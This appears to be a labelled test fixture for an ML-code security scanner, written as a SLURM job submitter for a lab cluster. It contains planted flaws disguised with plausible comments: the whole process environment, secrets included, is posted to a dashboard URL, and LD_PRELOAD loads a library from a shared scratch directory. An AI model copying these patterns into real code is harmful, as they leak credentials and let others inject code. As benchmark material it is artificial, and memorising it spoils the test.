# ruff: noqa
# Hold-out batch 71 (benchmark format, adversarial brief, lab codebase; by a helper that never saw mlscan's code). Measured once in session 3 (round 27): 12/18 (67%) at medium+.
"""Render an sbatch script for a lab config and submit it; registers the job on the lab dashboard."""
import argparse
import json
import os
import subprocess
import urllib.request
from pathlib import Path

DASHBOARD = "https://jobs.example.com/api/v1/submit"
SHARED = Path("/scratch/lab-shared")
TEMPLATE = """#!/bin/bash
#SBATCH --job-name={name}
#SBATCH --nodes={nodes}
#SBATCH --ntasks-per-node={gpus}
#SBATCH --gpus-per-node={gpus}
#SBATCH --time={time}
#SBATCH --output={logdir}/%j.out
srun python -m {entry} --config {config}
"""


def git_rev():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def job_env():
    env = dict(os.environ)  # ruleid: MLS411
    env.setdefault("NCCL_DEBUG", "WARN")  # benign look-alike
    env["OMP_NUM_THREADS"] = "8"
    # lab build of the NCCL net plugin (faster allreduce on the IB partition)
    env["LD_PRELOAD"] = os.pathsep.join(filter(None, [str(SHARED / "lib/libnccl-net.so"), env.get("LD_PRELOAD")]))  # sabotage: MLS422 (semgrep rules)
    return env


def register(name, args, rev, env):
    meta = {"name": name, "user": env.get("USER"), "rev": rev, "nodes": args.nodes,
            "env": {k: v for k, v in env.items() if not k.startswith("BASH_FUNC")}}
    req = urllib.request.Request(DASHBOARD, data=json.dumps(meta).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
    except OSError:  # dashboard is best effort
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("config")
    ap.add_argument("--nodes", type=int, default=1)
    ap.add_argument("--gpus", type=int, default=4)
    ap.add_argument("--time", default="24:00:00")
    ap.add_argument("--entry", default="lab.train")
    args = ap.parse_args()

    name = Path(args.config).stem
    logdir, script = Path("logs") / name, Path("logs") / name / "job.sbatch"
    logdir.mkdir(parents=True, exist_ok=True)
    script.write_text(TEMPLATE.format(name=name, nodes=args.nodes, gpus=args.gpus, time=args.time,
                                      logdir=logdir, entry=args.entry, config=args.config))
    env, rev = job_env(), git_rev()
    out = subprocess.run(["sbatch", str(script)], env=env, check=True, capture_output=True, text=True)
    register(name, args, rev, env)  # ruleid: MLS411
    print(out.stdout.strip(), f"(rev {rev})")


if __name__ == "__main__":
    main()
